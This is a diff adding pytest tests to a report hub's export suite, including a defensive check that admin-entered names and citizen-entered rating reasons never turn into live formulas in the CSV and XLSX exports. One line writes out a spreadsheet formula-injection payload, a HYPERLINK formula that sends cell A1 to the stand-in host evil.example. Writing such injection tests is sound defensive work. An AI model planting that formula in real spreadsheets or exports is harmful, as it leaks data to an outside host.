@@ -6,7 +6,9 @@ from __future__ import annotations
 
 import csv
 import io
+import json
 import re
+import sqlite3
 from datetime import timedelta
 
 import pytest
@@ -154,6 +156,58 @@ def test_csv_and_xlsx_open_with_vietnamese_intact(report_hub):
         "Clerks",
         "Hours",
     ]
+
+
+def test_csv_content_type_names_its_charset_once(report_hub):
+    staff = report_hub.session(*SUPERVISOR)
+    response = staff.get(f"{report_hub.url}/api/v1/reports/summary.csv", timeout=30)
+    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
+
+
+def test_names_and_reasons_never_become_formulas_in_the_files(report_hub, tmp_path):
+    """Names come from admins and reasons from citizens (older ratings could hold any text)."""
+    hub = report_hub
+    link = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    with sqlite3.connect(tmp_path / "hub.db") as db:
+        db.execute("UPDATE services SET name = ? WHERE code = 'HT'", (link,))
+        db.execute("UPDATE counters SET name = '+SUM(1,2)' WHERE number = 2")
+        db.execute("UPDATE users SET display_name = '=1+2' WHERE username = 'clerk1'")
+        db.execute("UPDATE ratings SET reasons = ? WHERE score = 2", (json.dumps([link]),))
+    staff = hub.session(*SUPERVISOR)
+    query = {"from": DAY.isoformat(), "to": DAY.isoformat()}
+
+    book = load_workbook(
+        io.BytesIO(
+            staff.get(f"{hub.url}/api/v1/reports/summary.xlsx", params=query, timeout=30).content
+        )
+    )
+    formulas = [
+        f"{sheet.title}!{c.coordinate}: {c.value}"
+        for sheet in book.worksheets
+        for row in sheet.iter_rows()
+        for c in row
+        if c.data_type == "f"
+    ]
+    assert not formulas
+    fields, counters, clerks = book.worksheets[1], book.worksheets[2], book.worksheets[3]
+    assert link in [c.value for c in fields["A"]]
+    assert "+SUM(1,2)" in [c.value for c in counters["A"]]
+    assert "=1+2" in [c.value for c in clerks["A"]]
+    reasons = [c.value for row in fields.iter_rows() for c in row if isinstance(c.value, str)]
+    assert any(v.startswith(link) for v in reasons)  # shown as the text it is
+
+    table = list(
+        csv.reader(
+            io.StringIO(
+                staff.get(
+                    f"{hub.url}/api/v1/reports/summary.csv", params=query, timeout=30
+                ).content.decode("utf-8-sig")
+            )
+        )
+    )
+    texts = [value for row in table for value in row]
+    assert not [v for v in texts if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert "'" + link in texts and "'+SUM(1,2)" in texts and "'=1+2" in texts
 
 
 def test_reports_page_is_for_supervisors_and_shows_the_day(report_hub):
